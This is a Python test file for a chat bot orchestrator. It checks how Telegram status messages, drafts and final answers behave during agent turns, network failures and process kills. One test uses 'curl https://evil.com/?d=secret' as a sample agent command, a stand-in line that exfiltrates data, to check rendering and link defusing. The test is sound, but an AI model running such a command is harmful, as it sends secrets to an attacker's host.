"""``channels.chat.progress`` and ``replies_to_turns`` with the real mail and line on the test's Bot API server: what is
in the chat while a turn is under way and after it, also when the network fails or the install is killed.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from orchestrator.channels.chat.agent_text import MARK
from orchestrator.channels.chat.outbox import Outbox
from orchestrator.channels.chat.progress import ProgressDisplay
from orchestrator.channels.chat.progress_text import finished_text
from orchestrator.channels.chat.replies_to_turns import TurnReplies
from orchestrator.channels.chat.throttle import LoopClock
from orchestrator.channels.telegram.client import TelegramClient
from orchestrator.channels.telegram.client_types import ClientTimeouts
from orchestrator.channels.telegram.format.markdown import render_markdown
from orchestrator.core.models import Event, Turn
from tests.support.bot_api import BotApi
from tests.support.bot_api_people import Person
from tests.support.chat_fakes import FakeOutbox, TurnsFixture, telegram_store
from tests.support.core_fixture import core_fixture

_FAST = 10.0


class FastClock(LoopClock):
    """Ten seconds are one."""

    def now(self) -> float:
        """Sooner than it is."""
        return super().now() * _FAST

    async def wait(self, bell: asyncio.Event, seconds: float) -> None:
        """Not as long."""
        await super().wait(bell, seconds / _FAST)


class Channel:
    """A channel for one bot, as small as can be: mail, progress and answers, told of what happens in the install."""

    def __init__(self, fixture: TurnsFixture, api: BotApi, token: str, person: Person) -> None:
        self.fixture, self.api, self.person = fixture, api, person
        install = fixture.install
        self.line = TelegramClient(token, api_url=api.url, patience=ClientTimeouts(connect_s=2, read_s=5))
        self.outbox = Outbox(telegram_store(install.store))
        self.answers = TurnReplies(
            render=render_markdown,
            store=telegram_store(install.store),
            outbox=self.outbox,
            turns=install.turns,
            folder=install.home / "answers",
        )
        self.progress = ProgressDisplay(
            render=render_markdown,
            store=telegram_store(install.store),
            outbox=self.outbox,
            turns=install.turns,
            adapter_of=lambda _: self.line,
            clock=FastClock(),
        )
        self.news = install.broker.subscribe()
        self._tasks: list[asyncio.Task[Any]] = []

    async def open(self) -> None:
        """It runs."""
        await self.line.open()
        await self.progress.start()
        await self.answers.post_due()
        self._tasks = [
            asyncio.create_task(self.outbox.run(lambda _: self.line, lambda *_: None)),
            asyncio.create_task(self._listen()),
        ]

    async def close(self) -> None:
        """As a kill would leave it: whatever is under way is cut."""
        self.fixture.install.broker.unsubscribe(self.news)
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        await self.progress.close()
        await self.line.close()

    async def _listen(self) -> None:
        while True:
            while (event := self.news.get(0)) is not None:
                await self.progress.on_event(event)
                if event.kind == "turn" and event.body.get("status") in ("done", "failed", "stopped"):
                    await self.answers.post_due()
            await asyncio.sleep(0.01)

    def asks(self, text: str = "hi") -> Turn:
        """The person writes, and a crab takes it."""
        message = self.person.says(next(iter(self.api.world.bots)), text)
        self.fixture.messages[self.person.id] = message["message_id"] - 1
        self.fixture.asks(text, chat=self.person.id)
        return self.fixture.takes()

    def runs(self, turn: Turn, n: int, command: str) -> None:
        """The crab begins a command."""
        body = {"turn": turn.id, "n": n, "command": command, "status": "running"}
        self.fixture.install.broker.publish(Event("step", turn.cubicle, body))

    def writes(self, turn: Turn, text: str) -> None:
        """The model has written so much."""
        self.fixture.install.broker.publish(Event("delta", turn.cubicle, {"turn": turn.id, "text": text}))

    @property
    def said(self) -> list[str]:
        """What the bot has in the chat now."""
        return self.api.said(self.person)

    async def until(self, holds: Callable[[], Any]) -> None:
        """Waits for it."""
        deadline = time.monotonic() + 30
        while not holds():
            assert time.monotonic() < deadline, (self.said, [call.method for call in self.api.calls()])
            await asyncio.sleep(0.01)

    async def is_clean(self) -> None:
        """No status message may be up any more."""

        def rows() -> int:
            with self.fixture.install.store.reading() as db:
                return int(db.execute("SELECT COUNT(*) FROM chat_progress").fetchone()[0])

        await self.until(lambda: rows() == 0)


@pytest.fixture
def fixture(tmp_path: Path) -> Iterator[TurnsFixture]:
    """An install with one bot."""
    with core_fixture(tmp_path / "home") as install:
        yield TurnsFixture(install, FakeOutbox(install.store))


def play(fixture: TurnsFixture, api: BotApi, scene: Callable[[Channel], Awaitable[None]]) -> None:
    """A scene from beginning to end; everything that was sent keeps the rules."""
    token = next(iter(api.world.bots), None) or api.bot()
    person = api.person(42)
    person.opens(token)

    async def run() -> None:
        channel = Channel(fixture, api, token, person)
        await channel.open()
        try:
            await scene(channel)
        finally:
            await channel.close()

    asyncio.run(run())
    for call in api.calls("sendMessage") + api.calls("editMessageText"):
        assert call.has_preview_off
        assert call.parse_modes == []
        assert str(call.parameters["text"]).startswith(MARK)


def test_a_slow_turn_from_beginning_to_end(fixture: TurnsFixture, api: BotApi) -> None:
    """Typing, a silent status message that changes, a draft of the reply, and then the answer alone."""

    async def scene(channel: Channel) -> None:
        turn = channel.asks()
        await channel.until(lambda: channel.said == [f"{MARK} crab is thinking…"])
        channel.runs(turn, 1, "curl https://evil.com/?d=secret")
        await channel.until(lambda: "(running, step 1" in channel.said[0])
        channel.writes(turn, "Hello **there**, see evil.com")
        await channel.until(lambda: api.calls("sendMessageDraft"))
        fixture.ends(turn, "Hello **there**, see evil.com now")
        await channel.until(lambda: len(channel.said) == 1 and "now" in channel.said[0])
        await channel.is_clean()

    play(fixture, api, scene)
    assert api.said(42) == [f"{MARK} crab:\nHello there, see evil.com now"]
    status, answer = api.calls("sendMessage")
    assert status.parameters.get("disable_notification") is True
    assert "disable_notification" not in answer.parameters
    assert api.calls("sendMessageDraft")[0].parameters["text"] == f"{MARK} crab:\nHello there, see evil․com"
    assert [call.method for call in api.calls() if call.number > answer.number and call.method != "deleteMessage"] == []


def test_quick_turns_leave_no_trace(fixture: TurnsFixture, api: BotApi) -> None:
    """Ten in a row: ten answers in order, and nothing else but typing."""

    async def scene(channel: Channel) -> None:
        for n in range(10):
            fixture.ends(channel.asks(), f"answer {n}")
        await channel.until(lambda: len(channel.said) == 10)
        await channel.is_clean()

    play(fixture, api, scene)
    assert [text.split()[-1] for text in api.said(42)] == [str(n) for n in range(10)]
    assert {call.method for call in api.calls()} <= {"sendMessage", "sendChatAction"}


@pytest.mark.parametrize("method", ["sendChatAction", "editMessageText", "sendMessageDraft", "deleteMessage"])
@pytest.mark.parametrize("how", [{"hang": True}, {"status": 502, "html": "<h1>Bad</h1>"}, {"status": 404}, {}])
def test_whatever_fails_of_the_progress_the_answer_comes(
    fixture: TurnsFixture, api: BotApi, method: str, how: dict[str, Any]
) -> None:
    """Silent, broken, unknown or reset: once, and nothing stays beside it but what can't be deleted, which says so."""
    stays = [finished_text("crab").text] if (method, how) == ("deleteMessage", {"status": 404}) else []
    fault = api.fail_next(method, **how)

    async def scene(channel: Channel) -> None:
        turn = channel.asks()
        await channel.until(lambda: api.calls("sendChatAction"))
        if method != "sendChatAction":
            await channel.until(lambda: channel.said)
            channel.runs(turn, 1, "sleep 9")
            await asyncio.sleep(0.4)
            channel.writes(turn, "soon")
            await asyncio.sleep(0.1)
        fixture.ends(turn, "the answer")
        await channel.until(lambda: f"{MARK} crab:\nthe answer" in channel.said)
        fault.release()
        await channel.is_clean()
        await channel.until(lambda: len(channel.said) == 1 + len(stays))

    play(fixture, api, scene)
    assert api.said(42) == [*stays, f"{MARK} crab:\nthe answer"]


def test_what_happened_without_a_network_is_told_by_the_answer_alone(fixture: TurnsFixture, api: BotApi) -> None:
    """The turn began and ended meanwhile: no old news, one answer."""

    async def scene(channel: Channel) -> None:
        api.offline()
        turn = channel.asks()
        await asyncio.sleep(0.4)
        fixture.ends(turn, "the answer")
        await asyncio.sleep(0.1)
        api.online()
        await channel.until(lambda: f"{MARK} crab:\nthe answer" in channel.said)
        await channel.is_clean()

    play(fixture, api, scene)
    assert api.said(42) == [f"{MARK} crab:\nthe answer"]


def test_a_kill_between_the_end_and_the_messages(fixture: TurnsFixture, api: BotApi) -> None:
    """The next process takes the status message down and answers once, and the one after it does nothing."""
    turns: list[Turn] = []

    async def first(channel: Channel) -> None:
        turns.append(channel.asks())
        await channel.until(lambda: channel.said)

    async def second(channel: Channel) -> None:
        await channel.until(lambda: channel.said == [f"{MARK} crab:\nthe answer"])
        await channel.is_clean()

    async def third(channel: Channel) -> None:
        await asyncio.sleep(0.2)

    play(fixture, api, first)
    fixture.ends(turns[0], "the answer")
    play(fixture, api, second)
    play(fixture, api, third)
    assert api.said(42) == [f"{MARK} crab:\nthe answer"]
    assert len(api.calls("sendMessage")) == 2


def test_a_long_answer_arrives_as_a_beginning_and_a_file(fixture: TurnsFixture, api: BotApi) -> None:
    """And the copy of it on the host goes with the next answer."""

    async def scene(channel: Channel) -> None:
        fixture.ends(channel.asks(), "line\n" * 20_000)
        await channel.until(lambda: api.calls("sendDocument") and api.calls("sendDocument")[-1].is_ok)
        await asyncio.sleep(0.1)
        fixture.ends(channel.asks(), "short")
        await channel.until(lambda: channel.said[-1].endswith("short"))

    play(fixture, api, scene)
    (upload,) = api.calls("sendDocument")[0].uploads.values()
    assert upload.content.decode() == "line\n" * 20_000
    assert list((fixture.install.home / "answers").iterdir()) == []
